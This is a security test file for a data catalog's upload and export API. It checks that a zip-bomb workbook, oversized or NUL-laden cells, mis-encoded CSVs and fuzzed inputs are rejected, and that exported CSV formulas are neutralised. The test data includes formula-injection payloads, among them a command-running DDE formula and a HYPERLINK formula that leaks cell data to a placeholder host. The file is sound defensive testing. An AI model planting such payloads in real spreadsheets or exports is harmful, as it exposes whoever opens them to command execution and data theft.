import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Config } from '../../src/platform/config/config.js';
import type { Role } from '../../src/platform/auth/roles.js';
import type { DatasetInput } from '../../src/catalog/index.js';
import { testEngines } from '../support/engines.js';
import { createTestHub, type TestHub } from '../support/test-hub.js';
import { gbkEncode, personId, populationDataset } from './fixtures.js';
import { bombWorkbook, textCell, workbook } from '../platform/csv/zip-fixture.js';
import { timedAnswer } from '../support/timing.js';

// Issue 15: the upload path as an attacker uses it (finding 6: the XLSX decompression bomb and cells without a
// size limit; finding 8: NUL in CSV cells; finding 10: GBK stored as mojibake, CSV exports passing formulas).

const setup = { kind: 'user' as const, roles: ['admin' as const] };
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

const notesDataset: DatasetInput = {
  identifier: 'notes', title: '备注', description: 'free text (test)', shareAttr: 'unconditional', openAttr: 'not_open', updateCycle: 'irregular',
  fields: [
    { name: 'district', title: '所属区', type: 'string', required: true, category: 'public.administration', grade: 'general', generalLevel: '1' },
    { name: 'note', title: '备注', type: 'string', category: 'public.service', grade: 'general', generalLevel: '1' },
    { name: 'amount', title: '金额', type: 'number', category: 'public.service', grade: 'general', generalLevel: '1' },
  ],
};

describe.each(testEngines)('uploads and exports under attack [%s]', (engine) => {
  let hub: TestHub;
  const keys: Record<string, string> = {};

  const auth = (who: string) => ({ authorization: `Bearer ${keys[who]}` });
  const upload = (dataset: string, body: Buffer | string, contentType = 'text/csv') =>
    hub.http.inject({ method: 'POST', url: `/api/catalog/datasets/${dataset}/upload`, headers: { ...auth('owner'), 'content-type': contentType }, payload: body });
  const currentRows = async (dataset: string) => {
    const { rows } = await hub.database.pool.query(
      'select r.data from catalog_row r join catalog_dataset d on d.id = r.dataset_id where d.identifier = $1 and r.to_version is null order by r.id', [dataset]);
    return rows.map((r: { data: Record<string, unknown> }) => r.data);
  };

  beforeAll(async () => {
    const config = { modules: { catalog: { uploadMaxCellChars: 1000, uploadMaxColumns: 20 } } } as unknown as Partial<Config>;
    hub = await createTestHub(engine, { config });
    const police = (await hub.services.auth.insertOrg(setup, { name: '市公安局', kind: 'department' })).id;
    const civil = (await hub.services.auth.insertOrg(setup, { name: '市民政局', kind: 'department' })).id;
    const key = async (name: string, roles: Role[], org: string) => (keys[name] = (await hub.services.auth.createApiKey(setup, { name, roles, orgId: org })).key);
    await key('owner', ['dept_data_owner'], police);
    await key('civil', ['handler'], civil);
    for (const ds of [populationDataset(), notesDataset, { ...notesDataset, identifier: 'fuzz' }]) {
      const res = await hub.http.inject({ method: 'POST', url: '/api/catalog/datasets', headers: auth('owner'), payload: ds });
      expect(res.statusCode, res.body).toBe(201);
    }
  }, 180_000);
  afterAll(async () => hub?.close());

  /** Runs `work` while asking /healthz every 20 ms; returns its result and the slowest /healthz answer. */
  async function whileProbing<T>(work: Promise<T>): Promise<{ result: T; worstHealthMs: number; probes: number }> {
    let done = false;
    let worst = 0;
    let probes = 0;
    const probing = (async () => {
      while (!done) {
        const started = performance.now();
        const res = await hub.http.inject({ url: '/healthz' });
        expect(res.statusCode).toBe(200);
        worst = Math.max(worst, performance.now() - started);
        probes++;
        await new Promise((r) => setTimeout(r, 20));
      }
    })();
    const result = await work.finally(() => { done = true; });
    await probing;
    return { result, worstHealthMs: worst, probes };
  }

  it('finding 6: a 99 KB workbook with one 100 MB cell answers 413 at once; /healthz stays under 200 ms; memory stays bounded', async () => {
    const bomb = bombWorkbook(100 * 1024 * 1024);
    expect(bomb.length).toBeLessThan(150 * 1024);
    const rssBefore = process.memoryUsage().rss;
    const started = performance.now();
    const { result: res, worstHealthMs } = await whileProbing(upload('population', bomb, XLSX));
    const tookMs = performance.now() - started;
    expect(res.statusCode, res.body).toBe(413);
    expect(res.json()).toMatchObject({ code: 'CATALOG_UPLOAD_TOO_LARGE', limit: 'modules.catalog.uploadMaxCompressionRatio', max: 100 });
    expect(tookMs).toBeLessThan(3000);
    expect(worstHealthMs).toBeLessThan(200);
    expect(process.memoryUsage().rss - rssBefore).toBeLessThan(150 * 1024 * 1024);

    // the same bomb with a forged directory (it claims 4 KB): inflation stops at the declared size
    const liar = await upload('population', bombWorkbook(20 * 1024 * 1024, { declaredSheetSize: 4096 }), XLSX);
    expect(liar.statusCode).toBe(400);
    expect(liar.json().code).toBe('CATALOG_UPLOAD_UNREADABLE');
    expect(await currentRows('population')).toEqual([]);
  }, 60_000);

  it('finding 6: cells over the limit are refused in XLSX and CSV with 413 naming the limit, the row and the column', async () => {
    const xlsx = await upload('notes', workbook([[textCell('A1', 'district'), textCell('B1', 'note')], [textCell('A2', '临江区'), textCell('B2', 'x'.repeat(1001))]]), XLSX);
    expect(xlsx.statusCode, xlsx.body).toBe(413);
    expect(xlsx.json()).toMatchObject({ code: 'CATALOG_UPLOAD_TOO_LARGE', limit: 'modules.catalog.uploadMaxCellChars', max: 1000, line: 2, column: 2 });
    expect(xlsx.json().errors[0].field).toBe('/body/rows/2/note');
    const csv = await upload('notes', `district,note\n临江区,ok\n青山区,"${'y'.repeat(5000)}"\n`);
    expect(csv.statusCode).toBe(413);
    expect(csv.json()).toMatchObject({ limit: 'modules.catalog.uploadMaxCellChars', line: 3, column: 2 });
    const pushed = await hub.http.inject({
      method: 'POST', url: '/api/catalog/datasets/notes/rows', headers: auth('owner'), payload: { rows: [{ district: '临江区', note: 'z'.repeat(1001) }] },
    });
    expect(pushed.statusCode).toBe(413);
    expect(pushed.json()).toMatchObject({ limit: 'modules.catalog.uploadMaxCellChars', line: 1 });
    expect(pushed.json().errors[0].field).toBe('/body/rows/1/note');
    const wide = await upload('notes', `${Array.from({ length: 21 }, (_, i) => `c${i}`).join(',')}\n`);
    expect(wide.statusCode).toBe(413);
    expect(wide.json()).toMatchObject({ limit: 'modules.catalog.uploadMaxColumns', max: 20 });
    expect(await currentRows('notes')).toEqual([]);
  });

  it('finding 6: a large CSV is parsed off the event loop: /healthz answers within 200 ms throughout', async () => {
    // 150,000 rows (~10 MB), every one with an unknown district type error so nothing is written: the time is parsing
    const lines = ['district,note,amount'];
    for (let i = 0; i < 150_000; i++) lines.push(`临江区,"第${i}行, 备注",not-a-number`);
    const { result: res, worstHealthMs, probes } = await whileProbing(upload('notes', lines.join('\n')));
    expect(res.statusCode).toBe(422);
    expect(res.json().badRows).toBe(150_000);
    expect(probes).toBeGreaterThan(3);
    expect(worstHealthMs).toBeLessThan(200);
  }, 60_000);

  it('finding 10: a GBK-encoded CSV is decoded (GB18030), never stored as mojibake; other encodings get a clear 400', async () => {
    const text = 'district,note,amount\r\n临江区,低保户 张三,12.5\r\n青山区,五保户,7\r\n';
    const res = await upload('notes', gbkEncode(text));
    expect(res.statusCode, res.body).toBe(201);
    expect(res.json()).toMatchObject({ rows: 2, encoding: 'gb18030' });
    expect(await currentRows('notes')).toEqual([
      { district: '临江区', note: '低保户 张三', amount: 12.5 },
      { district: '青山区', note: '五保户', amount: 7 },
    ]);
    const bom = await upload('notes', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('所属区,备注\n新湖区,带BOM\n', 'utf8')]));
    expect(bom.statusCode, bom.body).toBe(201);
    expect(bom.json().encoding).toBe('utf-8');
    expect((await currentRows('notes')).at(-1)).toMatchObject({ district: '新湖区', note: '带BOM' });

    const neither = await upload('notes', Buffer.concat([Buffer.from('district,note\n临江区,ok\n', 'utf8'), Buffer.from([0x80, 0x2c, 0xff, 0x0a])]));
    expect(neither.statusCode).toBe(400);
    expect(neither.json()).toMatchObject({ code: 'CATALOG_UPLOAD_ENCODING', line: 3 });
    expect(neither.json().detail).toMatch(/not UTF-8/);
  });

  it('finding 8: a NUL byte in a CSV or XLSX cell answers 400 naming the row and the column, never 500', async () => {
    const header = 'id_number,name,birth_date,age,address,district,income,phone';
    const good = `${personId(1)},张三,1985-06-12,40,云川市临江区,临江区,3000,13800000000`;
    const csv = await upload('population', `${header}\n${good}\n${personId(2)},李\u0000四,1985-06-12,40,云川市临江区,临江区,3000,13800000000\n`);
    expect(csv.statusCode, csv.body).toBe(400);
    expect(csv.json()).toMatchObject({ code: 'CATALOG_UPLOAD_UNREADABLE', line: 3, column: 2 });
    expect(csv.json().errors[0].field).toBe('/body/rows/3/name');
    const xlsx = await upload('notes', workbook([[textCell('A1', 'district'), textCell('B1', 'note')], [textCell('A2', '临江区'), textCell('B2', 'a&#0;b')]]), XLSX);
    expect(xlsx.statusCode).toBe(400);
    expect(xlsx.json().errors[0].field).toBe('/body/rows/2/note');
    expect(await currentRows('population')).toEqual([]);
  });

  it('finding 8: thousands of random uploads never answer 5xx and never take a second (fast-check)', async () => {
    const fragment = fc.oneof(
      fc.constantFrom('district', 'note', 'amount', '所属区', ',', '"', '""', '\r\n', '\n', '\r', '\u0000', '\ufeff', '=cmd|\' /C calc\'!A0', '临江区', '1e309', '-0', 'x'.repeat(1200)),
      fc.string({ maxLength: 12 }),
    );
    const csvBody = fc.array(fragment, { maxLength: 60 }).map((parts) => Buffer.from(parts.join(''), 'utf8'));
    const bytes = fc.uint8Array({ maxLength: 600 }).map((b) => Buffer.from(b));
    const zipLike = fc.uint8Array({ maxLength: 400 }).map((b) => Buffer.concat([Buffer.from('PK\u0003\u0004'), b]));
    await fc.assert(fc.asyncProperty(
      fc.oneof({ arbitrary: csvBody, weight: 3 }, bytes, zipLike),
      fc.constantFrom('text/csv', XLSX, 'application/octet-stream'),
      async (body, type) => {
        const { result: res, ms } = await timedAnswer(() => upload('fuzz', body, type), 1000);
        expect(res.statusCode, res.body).toBeLessThan(500);
        expect([201, 400, 413, 415, 422]).toContain(res.statusCode);
        if (res.statusCode >= 400) expect(res.headers['content-type']).toContain('application/problem+json');
        expect(ms).toBeLessThan(1000);
      },
    ), { numRuns: 1000 });
  }, 120_000);

  it('finding 10: CSV exports neutralise formulas (=, +, -, @, tab, CR) so a spreadsheet shows them as text', async () => {
    const attacks = ['=cmd|\' /C calc\'!A0', '+HYPERLINK("http://x.example/?"&A1)', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1'];
    const push = await hub.http.inject({
      method: 'POST', url: '/api/catalog/datasets/notes/rows', headers: auth('owner'),
      payload: { mode: 'replace', rows: [...attacks.map((note) => ({ district: '=1+1', note, amount: -5 })), { district: '临江区', note: 'plain', amount: 1 }] },
    });
    expect(push.statusCode, push.body).toBe(201);
    const granted = await hub.http.inject({
      method: 'POST', url: '/api/share/requests', headers: auth('civil'),
      payload: { dataset: 'notes', fields: ['district', 'note', 'amount'], purpose: '导出核对', legalBasis: '《办法》', until: new Date(Date.now() + 86_400_000).toISOString() },
    });
    expect(granted.statusCode, granted.body).toBe(201);
    const csv = await hub.http.inject({ url: '/api/share/notes/rows?format=csv', headers: auth('civil') });
    expect(csv.statusCode).toBe(200);
    const lines = csv.body.split('\r\n');
    expect(lines[0]).toBe('district,note,amount');
    for (const line of lines.slice(1, 1 + attacks.length)) {
      expect(line.startsWith("'=1+1,")).toBe(true);
      const note = line.slice("'=1+1,".length, line.lastIndexOf(','));
      expect(note.replace(/^"/, '')).toMatch(/^'[=+\-@\t\r]/);
      expect(line.endsWith(',-5')).toBe(true); // numbers stay numbers
    }
    // no cell of the export starts with a formula character
    const cells = csv.body.split(/\r\n|,(?=(?:[^"]*"[^"]*")*[^"]*$)/).map((c) => c.replace(/^"/, ''));
    expect(cells.filter((c) => /^[=+@]/.test(c))).toEqual([]);
  });
});
